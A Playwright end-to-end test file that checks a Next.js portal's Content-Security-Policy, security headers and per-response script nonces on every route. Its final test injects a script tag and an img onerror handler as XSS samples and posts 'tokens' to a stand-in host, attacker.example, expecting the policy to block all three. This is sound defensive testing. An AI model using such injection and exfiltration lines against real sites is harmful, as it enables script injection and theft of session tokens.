import { legacyRedirects, routes, type RouteEntry } from '../../apps/web/src/lib/routes';
import { expect, test, type APIRequestContext, type Page } from './fixtures';
import { signIn } from './helpers';

// Every route of the table, and the pages no table names: a wrong address, a missing public file,
// a mistyped address under /_next/, and an old address that next.config.ts redirects.
const paths = [
  ...(routes as readonly RouteEntry[]).map((r) => r.path),
  '/no-such-page',
  '/images/no-such-picture.png',
  '/_next/no-such-thing',
  ...Object.keys(legacyRedirects),
];
const staffPaths = (routes as readonly RouteEntry[]).filter((r) => r.section === 'staff').map((r) => r.path);

/** The policy as directive -> sources. */
function parse(csp: string): Map<string, string[]> {
  return new Map(
    csp.split(';').map((d) => {
      const [name, ...sources] = d.trim().split(/\s+/);
      return [name!, sources];
    }),
  );
}

/** The Toss stand-in's origin when the e2e portal has Toss configured (playwright.config.ts): the only extra source allowed. */
const toss = process.env.E2E_TOSS_ORIGIN ? [process.env.E2E_TOSS_ORIGIN] : [];

/** Checks one response's security headers and answers its nonce. */
function checkHeaders(h: Record<string, string>, label: string): string {
  const csp = h['content-security-policy'];
  expect(csp, `${label}: Content-Security-Policy`).toBeTruthy();
  const policy = parse(csp!);
  const nonce = /^'nonce-([A-Za-z0-9+/]+={0,2})'$/.exec(policy.get('script-src')?.[1] ?? '')?.[1];
  expect(nonce, `${label}: a nonce in script-src`).toBeTruthy();
  // The production build: no 'unsafe-eval', no 'unsafe-inline' for scripts.
  expect(policy.get('script-src'), label).toEqual(["'self'", `'nonce-${nonce}'`, "'strict-dynamic'", ...toss]);
  expect(policy.get('style-src-elem'), label).toEqual(["'self'", `'nonce-${nonce}'`]);
  expect(policy.get('object-src'), label).toEqual(["'none'"]);
  expect(policy.get('base-uri'), label).toEqual(["'self'"]);
  expect(policy.get('frame-ancestors'), label).toEqual(["'none'"]);
  expect(policy.get('form-action'), label).toEqual(["'self'"]);
  expect(policy.get('connect-src'), label).toEqual(["'self'", ...toss]);
  expect(policy.get('frame-src'), label).toEqual(toss.length ? ["'self'", ...toss] : undefined);
  expect(policy.get('img-src'), label).toEqual(["'self'", 'data:', 'blob:']);
  expect(policy.get('font-src'), label).toEqual(["'self'", 'data:']);
  expect(policy.get('worker-src'), label).toEqual(["'self'"]);
  expect(h['permissions-policy'], label).toBe(
    `camera=(), microphone=(), geolocation=(), payment=(${toss.length ? `self "${toss[0]}"` : ''})`,
  );
  expect(h['cross-origin-opener-policy'], label).toBe('same-origin');
  expect(h['x-content-type-options'], label).toBe('nosniff');
  // The e2e portal's address is http://: no HSTS (it would be ignored anyway) and no upgrade.
  expect(h['strict-transport-security'], label).toBeUndefined();
  expect(policy.has('upgrade-insecure-requests'), label).toBe(false);
  return nonce!;
}

/** Every script of the HTML carries the response's nonce (Next's own and its inline RSC payload). */
function checkScripts(html: string, nonce: string, label: string) {
  const scripts = html.match(/<script\b[^>]*>/gi) ?? [];
  expect(scripts.length, label).toBeGreaterThan(0);
  expect(
    scripts.filter((tag) => !tag.includes(` nonce="${nonce}"`)),
    `${label}: scripts without the nonce`,
  ).toEqual([]);
}

/**
 * Opens `path` in the browser as a person would and checks the page and every redirect on the way
 * (the proxy's sign-in redirect); answers the nonces seen. The page's scripts must run: the fixture
 * fails the test on any violation.
 */
async function visit(page: Page, path: string): Promise<string[]> {
  const res = await page.goto(path);
  expect(res, path).not.toBeNull();
  const label = `${path} -> ${new URL(page.url()).pathname}`;
  const nonce = checkHeaders(await res!.allHeaders(), label);
  const nonces = [nonce];
  // next.config.ts's permanent redirects answer before the proxy, with no body to protect.
  if (!(path in legacyRedirects)) {
    for (let hop = res!.request().redirectedFrom(); hop; hop = hop.redirectedFrom()) {
      nonces.push(checkHeaders(await (await hop.response())!.allHeaders(), `${path}: redirect from ${hop.url()}`));
    }
  }
  checkScripts(await res!.text(), nonce, label);
  // Next's bootstrap announces itself once it has run.
  await page.waitForFunction(() => Boolean((window as unknown as { next?: { version?: string } }).next?.version));
  return nonces;
}

/**
 * The same checks over HTTP with the browser's cookies, following redirects by hand. Signed in, the
 * browser is not walked from page to page: leaving a page while it rotates its tokens (every 6 s
 * here) can lose the new pair, which is not what this test is about.
 */
async function fetchPage(request: APIRequestContext, path: string): Promise<string[]> {
  const nonces: string[] = [];
  let url = path;
  for (let hops = 0; ; hops++) {
    expect(hops, `${path}: too many redirects`).toBeLessThan(5);
    const res = await request.get(url, { maxRedirects: 0, headers: { 'sec-fetch-mode': 'navigate', 'sec-fetch-dest': 'document' } });
    const location = res.headers()['location'];
    if (location && path in legacyRedirects && hops === 0) {
      url = location;
      continue;
    }
    const nonce = checkHeaders(res.headers(), `${path} (${url})`);
    nonces.push(nonce);
    if (location) {
      url = location;
      continue;
    }
    checkScripts(await res.text(), nonce, `${path} (${url})`);
    return nonces;
  }
}

/** Checks every response carried a nonce of its own. */
function expectAllDifferent(nonces: string[]) {
  expect(new Set(nonces).size, 'a fresh nonce per response').toBe(nonces.length);
}

test('signed out: every page, redirect and 404 carries the security headers and a nonce on every script, and runs', async ({ page }) => {
  test.setTimeout(180_000);
  const nonces: string[] = [];
  for (const path of paths) nonces.push(...(await visit(page, path)));
  expectAllDifferent(nonces);
});

test('signed in: every page carries the security headers and a nonce on every script', async ({ page }) => {
  test.setTimeout(120_000);
  // As a student the staff pages are the 404 page, and the login page redirects home.
  await signIn(page, 'student1');
  const nonces: string[] = [];
  for (const path of paths) nonces.push(...(await fetchPage(page.request, path)));
  expectAllDifferent(nonces);
  // A page she opens in the browser runs under the policy (the rest of the suite walks the others).
  await visit(page, '/mypage');
});

test('signed in as a teacher: the staff pages carry them too', async ({ page }) => {
  await signIn(page, 'teacher1', '/staff');
  const nonces: string[] = [];
  for (const path of staffPaths) nonces.push(...(await fetchPage(page.request, path)));
  expectAllDifferent(nonces);
});

test("next-auth's answers carry the headers too, and each of its own pages is one of ours", async ({ request }) => {
  for (const path of ['/api/auth/session', '/api/auth/csrf', '/api/auth/providers']) {
    const res = await request.get(path);
    expect(res.status(), path).toBe(200);
    checkHeaders(res.headers(), path);
  }
  // Its built-in pages are English and have inline scripts and styles: none of them is served.
  for (const [path, to] of [
    ['/api/auth/signin', '/sign/login'],
    ['/api/auth/signout', '/sign/logout'],
    ['/api/auth/error?error=Configuration', '/sign/login'],
    ['/api/auth/verify-request', '/sign/login'],
  ] as const) {
    const res = await request.get(path, { maxRedirects: 0 });
    expect(res.status(), path).toBe(302);
    expect(new URL(res.headers()['location']!, 'http://portal').pathname, path).toBe(to);
    checkHeaders(res.headers(), path);
  }
});

test('a missing file under /_next/ fetched by a browser that says nothing of navigating runs nothing', async ({ request }) => {
  // The proxy leaves loads under /_next/ alone unless they are navigations; Next's 404 page still answers.
  const res = await request.get('/_next/static/chunks/no-such-chunk.js', { headers: { 'sec-fetch-mode': '' } });
  expect(res.status()).toBe(404);
  expect(res.headers()['content-security-policy']).toBe("default-src 'none'; frame-ancestors 'none'; base-uri 'none'; form-action 'none'");
  expect(res.headers()['x-frame-options']).toBe('DENY');
});

test('two requests of the same page get different nonces', async ({ page }) => {
  const [first] = await visit(page, '/sign/login');
  const [second] = await visit(page, '/sign/login');
  expect(first).not.toBe(second);
});

test('an injected script or handler does not run, nor can it send anything elsewhere; the watch sees each', async ({
  page,
  cspViolations,
}) => {
  // A script tag in the server's HTML without the nonce: what a stored or reflected XSS would be.
  await page.route('/sign/login', async (route) => {
    const res = await route.fetch();
    const html = (await res.text()).replace('</body>', '<script>window.injected = ["script"]</script></body>');
    await route.fulfill({ response: res, body: html });
  });
  await page.goto('/sign/login');
  await page.waitForFunction(() => Boolean((window as unknown as { next?: { version?: string } }).next?.version));
  const ran = await page.evaluate(async () => {
    const w = window as unknown as { injected?: string[] };
    w.injected ??= [];
    // Markup put into the page by its own code (a DOM XSS): an event handler attribute.
    const box = document.createElement('div');
    box.innerHTML = '<img src="/images/no-such-picture.png" onerror="window.injected.push(\'handler\')">';
    document.body.append(box);
    // Even code that did run could not send the tokens to another origin.
    const sent = await fetch('https://attacker.example/collect', { method: 'POST', body: 'tokens' }).then(
      () => 'sent',
      () => 'refused',
    );
    await new Promise((r) => setTimeout(r, 300));
    return [...w.injected, sent];
  });
  expect(ran).toEqual(['refused']);
  await expect
    .poll(() => cspViolations.filter((v) => v.via === 'event').map((v) => v.directive))
    .toEqual(expect.arrayContaining(['script-src-elem', 'script-src-attr', 'connect-src']));
  expect(cspViolations.some((v) => v.via === 'console')).toBe(true);
  // Provoked on purpose: the watch would otherwise fail this test when it ends.
  cspViolations.length = 0;
});
